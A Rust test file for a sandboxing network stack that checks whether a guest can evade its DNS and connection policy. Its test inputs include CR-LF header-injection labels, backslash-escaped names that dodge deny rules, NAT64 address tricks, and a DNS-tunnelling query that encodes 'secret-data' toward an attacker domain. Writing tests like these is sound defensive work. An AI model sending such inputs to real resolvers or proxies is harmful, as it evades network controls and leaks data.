//! Names and addresses as a guest attacks them, through `GuestPort` against the real stack:
//! escaped and non-hostname names (REFUSED, never looked up), names that resolve into a denied
//! CIDR or to NAT64 forms of blocked addresses (refused at connect), DNS tunnelling under
//! `default = "deny"` (no lookup leaves), bracketed/CR-LF names with an upstream proxy, and
//! DNS over TCP against the connection limit. The host's resolver is replaced by a recording
//! one (`Context::with_resolver`), which decodes presentation-format escapes the way glibc's
//! getaddrinfo does, so the lookups the netstack would have sent are visible.

mod stack_support;

use ax_netstack::config::Config;
use ax_netstack::context::Context;
use ax_netstack::stack::{GuestPort, Netstack};
use ax_netstack::upstream::Lookup;
use smoltcp::socket::udp;
use smoltcp::wire::IpAddress;
use stack_support::*;
use std::net::IpAddr;
use std::sync::{Arc, Mutex};

/// Every name the netstack asked its resolver for, in order.
type Asked = Arc<Mutex<Vec<String>>>;

fn asked_now(a: &Asked) -> Vec<String> {
    a.lock().unwrap().clone()
}

/// glibc's reading of a presentation-format name (RFC 1035 §5.1): `\DDD` and `\X` decoded.
fn unescape(name: &str) -> String {
    let b = name.as_bytes();
    let mut out = Vec::new();
    let mut i = 0;
    while i < b.len() {
        if b[i] == b'\\' && i + 3 < b.len() && b[i + 1..i + 4].iter().all(u8::is_ascii_digit) {
            let v: u32 = std::str::from_utf8(&b[i + 1..i + 4])
                .unwrap()
                .parse()
                .unwrap();
            out.push(v as u8);
            i += 4;
        } else if b[i] == b'\\' && i + 1 < b.len() {
            out.push(b[i + 1]);
            i += 2;
        } else {
            out.push(b[i]);
            i += 1;
        }
    }
    String::from_utf8_lossy(&out).to_ascii_lowercase()
}

/// Starts a netstack for `toml` whose resolver records each name and answers from `table`
/// (after glibc's unescaping); other names do not exist.
fn start_recorded(
    toml: &str,
    table: &[(&str, &str)],
) -> (Netstack, GuestPort, Asked, tempfile::TempDir) {
    let dir = tempfile::tempdir().unwrap();
    let ledger = dir.path().join("ledger.sqlite");
    let cfg = Config::parse(
        &format!(
            "agent = \"t\"\n{toml}\n[meter]\nledger = {:?}\n",
            ledger.to_str().unwrap()
        ),
        "test",
    )
    .unwrap();
    let asked: Asked = Arc::default();
    let table: Vec<(String, IpAddr)> = table
        .iter()
        .map(|(n, a)| (n.to_string(), a.parse().unwrap()))
        .collect();
    let rec = asked.clone();
    let ctx = Context::with_resolver(
        cfg,
        Arc::new(move |name: &str| {
            rec.lock().unwrap().push(name.to_string());
            let n = unescape(name);
            let hits: Vec<IpAddr> = table
                .iter()
                .filter(|(t, _)| *t == n)
                .map(|(_, a)| *a)
                .collect();
            if hits.is_empty() {
                Err(Lookup::NoName)
            } else {
                Ok(hits)
            }
        }),
    )
    .unwrap();
    let (ns, port) = Netstack::start(ctx).unwrap();
    (ns, port, asked, dir)
}

/// A query message with the given raw labels (RFC 1035 §4.1), RD set.
fn query_labels(id: u16, labels: &[&[u8]], qtype: u16) -> Vec<u8> {
    let mut m = id.to_be_bytes().to_vec();
    m.extend_from_slice(&[0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0]);
    for l in labels {
        m.push(l.len() as u8);
        m.extend_from_slice(l);
    }
    m.push(0);
    m.extend_from_slice(&qtype.to_be_bytes());
    m.extend_from_slice(&1u16.to_be_bytes());
    m
}

/// Sends `msg` to gateway:53 over UDP from `local_port`; the raw answer.
async fn dns_raw(g: &mut Guest, msg: &[u8], local_port: u16) -> Vec<u8> {
    let mut s = udp::Socket::new(
        udp::PacketBuffer::new(vec![udp::PacketMetadata::EMPTY; 4], vec![0; 4096]),
        udp::PacketBuffer::new(vec![udp::PacketMetadata::EMPTY; 4], vec![0; 4096]),
    );
    s.bind(local_port).unwrap();
    let h = g.sockets.add(s);
    g.sockets
        .get_mut::<udp::Socket>(h)
        .send_slice(msg, (IpAddress::Ipv4(GW_IP), 53))
        .unwrap();
    let mut out = None;
    assert!(
        g.until(10, |g| {
            if let Ok((d, _)) = g.sockets.get_mut::<udp::Socket>(h).recv() {
                out = Some(d.to_vec());
            }
            out.is_some()
        })
        .await,
        "no DNS answer"
    );
    g.sockets.remove(h);
    out.unwrap()
}

const REFUSED: u8 = 5;

/// `exampl\101.com` sent as a raw label with a backslash (what `getent hosts
/// 'exampl\\101.com'` puts on the wire): the host's glibc would look up `example.com`, which
/// a rule denies, while the policy saw another name. Refused before any lookup; names that
/// are not host names at all likewise.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn escaped_and_non_hostname_names_are_refused_unlooked() {
    let (_ns, gp, asked, _dir) = start_recorded(
        r#"
[[policy.rule]]
host = "example.com"
action = "deny"
[[policy.rule]]
host = "*.com"
action = "allow"
"#,
        &[("example.com", "93.184.216.34")],
    );
    let mut g = Guest::new(gp);
    let attacks: [&[&[u8]]; 6] = [
        &[b"exampl\\101", b"com"],
        &[b"exampl\\e", b"com"],
        &[b"example.com"],       // one label holding a dot
        &[b"example\0", b"com"], // NUL: C strings end there
        &[b"a b", b"com"],
        &[b"x\r\nHost: y", b"com"],
    ];
    for (i, labels) in attacks.iter().enumerate() {
        let r = dns_raw(&mut g, &query_labels(7, labels, 1), 31000 + i as u16).await;
        assert_eq!(
            (rcode(&r), ancount(&r)),
            (REFUSED, 0),
            "{labels:?} must be REFUSED"
        );
    }
    assert!(
        asked_now(&asked).is_empty(),
        "names reached the resolver: {:?}",
        asked_now(&asked)
    );
    // Case variants are one name with one address (denied on every port: not looked up).
    let a = g.resolve("Example.COM").await;
    assert_eq!(g.resolve("example.com").await, a);
    assert!(asked_now(&asked).is_empty());
}

/// A name the policy allows (a host rule) that resolves into a denied CIDR, or only to the
/// NAT64 form of a blocked address, is refused at connect: RST, an audit record naming the
/// rule or the range, no upstream connection.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn resolved_addresses_meet_cidr_rules_and_nat64_blocks() {
    let (_ns, gp, _asked, dir) = start_recorded(
        r#"
[policy]
default = "deny"
[[policy.rule]]
host = "203.0.113.0/24"
action = "deny"
[[policy.rule]]
host = "cidr.test"
action = "allow"
[[policy.rule]]
host = "nat64.test"
action = "allow"
"#,
        &[
            ("cidr.test", "203.0.113.5"),
            ("nat64.test", "64:ff9b::a9fe:a9fe"),
        ],
    );
    let mut g = Guest::new(gp);
    let cidr = g.resolve("cidr.test").await;
    let h = g.connect(cidr, 80, 41100);
    assert!(!established(&mut g, h).await, "cidr.test must be refused");
    let nat64 = g.resolve("nat64.test").await;
    let h = g.connect(nat64, 80, 41101);
    assert!(!established(&mut g, h).await, "nat64.test must be refused");
    let rows = connections(&dir, 2).await;
    let row = |h: &str| rows.iter().find(|r| r.host.as_deref() == Some(h)).unwrap();
    assert_eq!(row("cidr.test").decision, "deny", "{:?}", row("cidr.test"));
    let why = row("cidr.test").reason.clone().unwrap();
    assert!(
        why.contains("denied by policy rule 1") && why.contains("203.0.113.5"),
        "{why}"
    );
    assert_eq!(
        row("nat64.test").decision,
        "deny",
        "{:?}",
        row("nat64.test")
    );
    let why = row("nat64.test").reason.clone().unwrap();
    assert!(why.contains("NAT64"), "{why}");
}

/// DNS tunnelling: under `default = "deny"` a query for a denied name is answered without a
/// host lookup (the data in the name never leaves); names that may be reached are looked up.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn denied_names_are_never_looked_up() {
    let (_ns, gp, asked, dir) = start_recorded(
        r#"
[policy]
default = "deny"
[[policy.rule]]
host = "*.allowed.test"
action = "allow"
[[policy.rule]]
host = "*.blocked.test"
action = "deny"
"#,
        &[
            ("api.allowed.test", "93.184.216.34"),
            ("x.blocked.test", "93.184.216.34"),
        ],
    );
    let mut g = Guest::new(gp);
    let leak = g.resolve("c2VjcmV0LWRhdGE.tunnel.attacker.test").await;
    g.resolve("x.blocked.test").await;
    g.resolve("api.allowed.test").await;
    let asked = asked.lock().unwrap().clone();
    assert_eq!(
        asked,
        vec!["api.allowed.test"],
        "only the allowed name is looked up"
    );
    // The denied name still cannot be reached.
    let h = g.connect(leak, 443, 41200);
    assert!(!established(&mut g, h).await);
    let rows = connections(&dir, 1).await;
    assert!(
        rows[0]
            .reason
            .as_deref()
            .unwrap()
            .contains("default policy"),
        "{:?}",
        rows[0]
    );
}

/// With an upstream proxy every name "exists" (the proxy resolves it), so a name the host
/// cannot resolve would be written into the CONNECT line: `[::1]` (the proxy's loopback) or
/// a label with CR/LF must be refused at the DNS responder already, and no CONNECT made.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn proxy_never_sees_non_hostnames() {
    let proxy = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    proxy.set_nonblocking(true).unwrap();
    let port = proxy.local_addr().unwrap().port();
    let (_ns, gp, asked, _dir) = start_recorded(
        &format!("[network]\nupstream_proxy = \"http://127.0.0.1:{port}\"\n"),
        &[],
    );
    let mut g = Guest::new(gp);
    for (i, labels) in [
        &[&b"[::1]"[..]][..],
        &[b"a\r\nX-Evil: 1", b"test"],
        &[b"127", b"0", b"0", b"1"],
    ]
    .iter()
    .enumerate()
    {
        let r = dns_raw(&mut g, &query_labels(9, labels, 1), 31100 + i as u16).await;
        assert_eq!(rcode(&r), REFUSED, "{labels:?}");
    }
    assert!(asked.lock().unwrap().is_empty());
    assert!(proxy.accept().is_err(), "no CONNECT was attempted");
}

/// DNS over TCP holds a guest connection like any other flow: beyond
/// `network.max_connections` it is refused too.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn dns_over_tcp_counts_against_the_connection_limit() {
    let (_ns, gp, _asked, _dir) = start_recorded("[network]\nmax_connections = 2\n", &[]);
    let mut g = Guest::new(gp);
    let a = g.connect(GW_IP, 53, 42001);
    assert!(established(&mut g, a).await);
    let b = g.connect(GW_IP, 53, 42002);
    assert!(established(&mut g, b).await);
    let c = g.connect(GW_IP, 53, 42003);
    assert!(
        !established(&mut g, c).await,
        "a third DNS/TCP connection must be refused"
    );
    // Closing one makes room again.
    g.tcp(a).close();
    assert!(
        g.until(10, |g| g.tcp(a).state()
            == smoltcp::socket::tcp::State::TimeWait
            || g.tcp(a).state() == smoltcp::socket::tcp::State::Closed)
            .await
    );
    tokio::time::sleep(std::time::Duration::from_millis(200)).await;
    let d = g.connect(GW_IP, 53, 42004);
    assert!(established(&mut g, d).await, "room again after a close");
}
